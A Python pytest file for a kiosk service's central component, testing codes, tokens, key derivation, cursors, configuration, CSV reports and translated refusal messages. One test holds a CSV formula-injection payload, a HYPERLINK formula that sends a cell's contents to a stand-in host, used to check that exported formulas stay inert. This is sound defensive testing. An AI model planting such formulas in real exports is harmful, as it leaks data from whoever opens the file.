"""Pure parts of the central service: keys, codes, tokens, cursors, configuration."""

from __future__ import annotations

import ast
import csv
import io
import stat
import string
from pathlib import Path

import pytest

import central
import kiosk.domain
from central import keys
from central.admin.pages import NOT_SOLD
from central.admin.refusals import REFUSALS
from central.config import load_secret_key, normalize_db_url, settings_from
from central.csv_report import to_csv
from central.errors import ConfigError, CursorExpired, Invalid
from central.feeds.service import decode_cursor, encode_cursor
from kiosk.domain.errors import Reason
from kiosk.domain.members import member_code_for, phone_hash
from sync.protocol import decode_secret, encode_secret


def test_enrolment_codes_are_readable_and_forgiving() -> None:
    code = keys.new_enrolment_code()
    assert len(code) == 14
    assert not set(code.replace("-", "")) & set("01IOL")
    assert keys.normalize_code(code.lower().replace("-", " ")) == code.replace("-", "")


def test_operator_tokens_parse_and_hash() -> None:
    token_id, token = keys.new_operator_token()
    assert keys.parse_operator_token(token) == token_id
    assert keys.parse_operator_token("Bearer nonsense") is None
    assert len(keys.sha256_hex(token)) == 64


def test_derived_keys_differ_per_purpose_and_kiosk() -> None:
    master = b"m" * 32
    derived = {
        keys.kiosk_secret(master, "k_1"),
        keys.kiosk_secret(master, "k_2"),
        keys.member_phone_key(master),
        keys.staff_badge_key(master),
    }
    assert len(derived) == 4
    assert keys.kiosk_secret(master, "k_1") == keys.kiosk_secret(master, "k_1")


def test_phone_hash_ignores_formatting_and_member_codes_are_stable() -> None:
    key = b"p" * 32
    assert phone_hash(key, "+86 139-0000 1111") == phone_hash(key, "+8613900001111")
    assert phone_hash(key, "+8613900001111") != phone_hash(b"q" * 32, "+8613900001111")
    member = "0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b"
    assert member_code_for(member) == member_code_for(member.upper())
    assert member_code_for(member).startswith("M")
    assert decode_secret(encode_secret(b"\x00\xff" * 8)) == b"\x00\xff" * 8


def test_cursors_round_trip_and_refuse_foreign_ones() -> None:
    cursor = encode_cursor("epoch1", 42)
    assert decode_cursor(cursor, "epoch1") == 42
    assert decode_cursor("", "epoch1") == 0
    with pytest.raises(CursorExpired):
        decode_cursor(cursor, "epoch2")
    for garbage in ("%%%", "bm9wZQ", encode_cursor("epoch1", 1)[:-3]):
        with pytest.raises(Invalid):
            decode_cursor(garbage, "epoch1")


def test_database_urls() -> None:
    assert normalize_db_url("postgresql://u@h/db") == "postgresql+psycopg://u@h/db"
    assert normalize_db_url("postgres://u@h/db") == "postgresql+psycopg://u@h/db"
    assert normalize_db_url("data/c.db").startswith("sqlite:////")
    assert normalize_db_url("sqlite:///x.db") == "sqlite:///x.db"


def test_secret_key_generated_once_next_to_sqlite(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'c.db'}"
    first = load_secret_key(url, {})
    assert load_secret_key(url, {}) == first
    key_file = tmp_path / "c.db.key"
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600


def test_secret_key_from_environment_and_required_for_postgres(tmp_path: Path) -> None:
    env = {"CENTRAL_SECRET_KEY": encode_secret(b"k" * 32)}
    assert load_secret_key("postgresql+psycopg://h/db", env) == b"k" * 32
    with pytest.raises(ConfigError, match="CENTRAL_SECRET_KEY"):
        load_secret_key("postgresql+psycopg://h/db", {})
    with pytest.raises(ConfigError, match="too short"):
        load_secret_key("postgresql+psycopg://h/db", {"CENTRAL_SECRET_KEY": "abcd"})
    settings = settings_from({**env, "CENTRAL_DB_URL": "postgresql://h/db"})
    assert settings.db_url == "postgresql+psycopg://h/db"


def test_a_report_csv_has_its_header_and_refuses_undeclared_columns() -> None:
    assert to_csv([], ("day", "sales")) == "day,sales\n"
    assert to_csv([{"day": "2026-12-01", "sales": 3}], ("day", "sales")) == (
        "day,sales\n2026-12-01,3\n"
    )
    with pytest.raises(ValueError, match="refunds"):
        to_csv([{"day": "2026-12-01", "sales": 3, "refunds": 1}], ("day", "sales"))
    with pytest.raises(ValueError, match="sales"):
        to_csv([{"day": "2026-12-01"}], ("day", "sales"))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_report_csv_keeps_formula_text_inert_and_numbers_as_they_are(start: str) -> None:
    """A promotion named `=HYPERLINK(…)` by one account ran in the spreadsheet of whoever
    opened the report."""
    name = start + 'HYPERLINK("http://x.example/?"&A2,"open")'
    text = to_csv([{"name": name, "delta": -150}], ("name", "delta"))
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ["'" + name, "-150"]


def test_the_previews_words_for_what_it_does_not_sell_are_reason_codes() -> None:
    assert {lang: set(words) for lang, words in NOT_SOLD.items()} == {
        "zh_CN": set(NOT_SOLD["ko"]),
        "ko": set(NOT_SOLD["zh_CN"]),
    }
    assert set(NOT_SOLD["ko"]) <= {r.value for r in Reason}


def test_every_refusal_with_words_has_them_in_every_console_language() -> None:
    """Each `say=` in the service and in the kiosk's domain (validators the console passes
    on) names words in Chinese and Korean, filled by the `params` the raise gives (a missing
    one would raise KeyError on the page)."""
    said: dict[str, set[frozenset[str]]] = {}
    sources = (Path(central.__file__).parent, Path(kiosk.domain.__file__).parent)
    for path in (p for folder in sources for p in folder.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(node, ast.Call):
                continue
            keywords = {k.arg: k.value for k in node.keywords if k.arg}
            say = keywords.get("say")
            if isinstance(say, ast.Constant):
                given = keywords.get("params")
                assert given is None or isinstance(given, ast.Dict), ast.dump(node)
                keys = [] if given is None else given.keys
                assert all(isinstance(k, ast.Constant) for k in keys), ast.dump(node)  # no **
                params = frozenset(k.value for k in keys if isinstance(k, ast.Constant))
                said.setdefault(say.value, set()).add(params)
    assert len(said) >= 60
    for lang, words in REFUSALS.items():
        assert set(words) == set(said), lang
        for key, text in words.items():
            fields = {f for _, f, _, _ in string.Formatter().parse(text) if f}
            assert all(fields <= params for params in said[key]), (lang, key)
